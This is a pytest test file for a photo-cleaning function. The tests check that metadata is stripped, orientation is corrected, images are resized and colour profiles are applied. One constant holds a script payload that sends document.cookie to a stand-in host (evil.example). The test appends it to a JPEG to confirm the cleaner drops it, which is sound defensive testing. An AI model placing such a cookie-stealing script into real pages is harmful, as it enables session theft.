"""A cleaned photo keeps its look, and nothing that shows where, when or by whom it was taken."""

import struct
import zlib
from base64 import b64encode

import pytest
from PIL import Image, ImageCms
from PIL.Image import Transpose
from PIL.PngImagePlugin import PngInfo

from skin.domain.photo import clean_photo
from tests.support.images import (
    CANARY,
    colour_kept,
    decoded,
    encoded,
    exif,
    jpeg_segments,
    png,
    quarters,
)
from tests.support.photo_memory import grain

APP0, APPS_AND_COMMENT = 0xE0, {*range(0xE0, 0xF0), 0xFE}
SCRIPT = b"<script>fetch('//evil.example/' + document.cookie)</script>"
BROWN = (160, 110, 80)


def text() -> PngInfo:
    info = PngInfo()
    info.add_text("Comment", CANARY.decode())
    info.add_text("Description", CANARY.decode() * 99, zip=True)
    info.add_itxt("XML:com.adobe.xmp", CANARY.decode())
    return info


@pytest.mark.parametrize(
    ("form", "metadata"),
    [
        ("JPEG", {"exif": exif(), "comment": CANARY, "xmp": CANARY, "dpi": (7, 7)}),
        ("PNG", {"exif": exif(), "pnginfo": text(), "dpi": (7, 7)}),
        ("WEBP", {"exif": exif(), "xmp": CANARY}),
    ],
)
def test_no_metadata_is_kept(form, metadata):
    data = encoded(quarters(), form, **metadata)
    photo = clean_photo(data=data)
    assert CANARY in data
    assert CANARY not in photo.jpeg
    assert APPS_AND_COMMENT & set(jpeg_segments(photo.jpeg)) == {APP0}
    assert not decoded(photo).getexif()


def test_a_script_after_the_image_is_dropped():
    photo = clean_photo(data=encoded(quarters(), "JPEG") + SCRIPT)
    assert photo == clean_photo(data=encoded(quarters(), "JPEG"))
    assert b"script" not in photo.jpeg


def test_a_photo_that_was_cleaned_before_is_accepted_again():
    photo = clean_photo(data=encoded(quarters()))
    again = clean_photo(data=photo.jpeg)
    assert (again.width, again.height) == (photo.width, photo.height)


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP"])
@pytest.mark.parametrize(
    ("orientation", "corners"),
    [
        (1, "RG BW"),
        (2, "GR WB"),
        (3, "WB GR"),
        (4, "BW RG"),
        (5, "RB GW"),
        (6, "BR WG"),
        (7, "WG BR"),
        (8, "GW RB"),
    ],
)
def test_the_photo_is_upright(form, orientation, corners):
    photo = clean_photo(data=encoded(quarters(), form, exif=exif(orientation=orientation)))
    picture = decoded(photo)
    assert picture.size == ((64, 48) if orientation < 5 else (48, 64))
    names = {(True, False, False): "R", (False, True, False): "G", (False, False, True): "B"}
    right, bottom = picture.width - 9, picture.height - 9
    seen = [picture.getpixel(at) for at in ((8, 8), (right, 8), (8, bottom), (right, bottom))]
    letters = [names.get(tuple(level > 128 for level in colour), "W") for colour in seen]
    assert "".join(letters) == corners.replace(" ", "")


STORED = {  # how a camera turns an upright picture before it stores it under each orientation
    1: None,
    2: Transpose.FLIP_LEFT_RIGHT,
    3: Transpose.ROTATE_180,
    4: Transpose.FLIP_TOP_BOTTOM,
    5: Transpose.TRANSPOSE,
    6: Transpose.ROTATE_90,
    7: Transpose.TRANSVERSE,
    8: Transpose.ROTATE_270,
}


@pytest.mark.parametrize("mode", ["RGB", "RGBA", "L"])
def test_a_picture_that_shrinks_has_the_same_pixels_by_every_orientation_and_format(mode):
    # Pillow scales a narrower picture in the same order, turned or not.
    upright = grain((2503, 1501)).convert(mode)
    if mode == "RGBA":
        upright.putalpha(upright.getchannel("G"))
    as_taken = clean_photo(data=encoded(upright, compress_level=1))
    for orientation, turn in STORED.items():
        stored = upright if turn is None else upright.transpose(turn)
        how = {"exif": exif(orientation=orientation)}
        assert clean_photo(data=encoded(stored, compress_level=1, **how)) == as_taken
    if mode != "L":  # WebP has no grey
        lossless = encoded(stored, "WEBP", lossless=True, quality=0, method=0, exact=True, **how)
        assert clean_photo(data=lossless) == as_taken


@pytest.mark.parametrize("orientation", [0, 9, 65535])
def test_an_unknown_orientation_is_ignored(orientation):
    tags = exif(orientation=orientation)
    assert clean_photo(data=encoded(quarters(), "JPEG", exif=tags)).width == 64


@pytest.mark.parametrize(
    ("size", "kept"),
    [
        ((4000, 3000), (2048, 1536)),
        ((100, 4096), (50, 2048)),
        ((60_000, 1), (2048, 1)),
        ((2048, 9), (2048, 9)),
        ((1, 1), (1, 1)),
    ],
)
def test_the_longest_side_is_2048_pixels_and_nothing_is_enlarged(size, kept):
    photo = clean_photo(data=encoded(Image.new("RGB", size, BROWN), "JPEG"))
    assert (photo.width, photo.height) == kept


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP"])
def test_colours_stay_as_they_were(form):
    data = encoded(Image.new("RGB", (32, 32), BROWN), form, quality=95)
    assert colour_kept(data) == pytest.approx(BROWN, abs=3)


def palette(**how: object) -> bytes:
    picture = Image.new("P", (16, 16), 1)
    picture.putpalette([0, 0, 0, *BROWN])
    return encoded(picture, **how)


SIXTEEN_BITS = zlib.compress(b"".join(b"\0" + struct.pack(">8H", *[0x8000] * 8) for _ in range(8)))


@pytest.mark.parametrize(
    ("data", "colour"),
    [
        (encoded(Image.new("L", (16, 16), 99)), (99, 99, 99)),
        (encoded(Image.new("L", (16, 16), 99), "JPEG"), (99, 99, 99)),
        (encoded(Image.new("1", (16, 16), 1)), (255, 255, 255)),
        (encoded(Image.new("I;16", (16, 16), 0x8000)), (128, 128, 128)),
        (
            png((b"IDAT", SIXTEEN_BITS), width=8, height=8, kind=b"\x10\0\0\0\0"),
            (128, 128, 128),
        ),
        (palette(), BROWN),
        (palette(transparency=1), (255, 255, 255)),
        (encoded(Image.new("RGBA", (16, 16), (*BROWN, 0))), (255, 255, 255)),
        (encoded(Image.new("RGBA", (16, 16), (0, 0, 0, 128))), (127, 127, 127)),
        (encoded(Image.new("LA", (16, 16), (0, 128))), (127, 127, 127)),
        (encoded(Image.new("RGBA", (16, 16), (*BROWN, 0)), "WEBP"), (255, 255, 255)),
        (encoded(Image.new("RGB", (16, 16), BROWN), transparency=BROWN), (255, 255, 255)),
        (encoded(Image.new("CMYK", (16, 16), (0, 255, 255, 0)), "JPEG"), (255, 0, 0)),
    ],
)
def test_every_pixel_format_becomes_opaque_colour(data, colour):
    assert colour_kept(data) == pytest.approx(colour, abs=3)


SRGB = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
GREEN_FOR_RED = SRGB.replace(b"rXYZ", b"hold").replace(b"gXYZ", b"rXYZ").replace(b"hold", b"gXYZ")


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP"])
def test_colours_follow_the_embedded_profile(form):
    green = Image.new("RGB", (32, 32), (0, 255, 0))
    data = encoded(green, form, icc_profile=GREEN_FOR_RED)
    assert colour_kept(data) == pytest.approx((255, 0, 0), abs=3)
    assert b"ICC_PROFILE" not in clean_photo(data=data).jpeg


@pytest.mark.parametrize("profile", [b"junk" * 50, SRGB[:200], bytes(1000)])
def test_an_invalid_profile_is_ignored(profile):
    data = encoded(Image.new("RGB", (32, 32), BROWN), "JPEG", icc_profile=profile)
    assert colour_kept(data) == pytest.approx(BROWN, abs=3)


@pytest.mark.parametrize(("mode", "level"), [("L", 99), ("CMYK", (0, 255, 255, 0))])
def test_a_profile_for_another_pixel_format_is_ignored(mode, level):
    picture = Image.new(mode, (32, 32), level)
    with_profile, without = encoded(picture, "JPEG", icc_profile=SRGB), encoded(picture, "JPEG")
    assert clean_photo(data=with_profile) == clean_photo(data=without)


def test_even_noise_stays_below_the_limits_of_bedrock_and_lambda():
    noise = Image.effect_noise((2048, 2048), 127)
    colours = Image.merge("RGB", [noise, *(noise.rotate(turn) for turn in (90, 180))])
    jpeg = clean_photo(data=encoded(colours, "JPEG")).jpeg
    assert len(jpeg) < 3_750_000
    assert len(b64encode(jpeg)) < 6_000_000  # an answer of a function, as base64
